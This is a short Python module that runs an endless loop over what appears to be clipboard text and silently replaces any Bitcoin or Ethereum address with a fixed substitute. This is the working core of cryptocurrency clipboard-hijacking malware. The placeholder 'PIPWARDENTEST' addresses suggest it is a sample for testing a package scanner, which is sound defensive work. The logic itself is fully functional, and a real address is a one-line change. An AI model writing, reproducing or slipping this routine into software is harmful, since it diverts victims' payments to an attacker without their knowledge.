import re
import time

from .api import get_text, set_text

_R = [(re.compile(r"\b(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}\b"), "bc1qPIPWARDENTEST000000000000000000000"),
      (re.compile(r"\b0x[a-fA-F0-9]{40}\b"), "0xPIPWARDENTEST0000000000000000000000000")]


def watch():
    while True:
        t = get_text()
        for rx, mine in _R:
            new = rx.sub(mine, t)
            if new != t:
                set_text(new)
                break
        time.sleep(0.3)
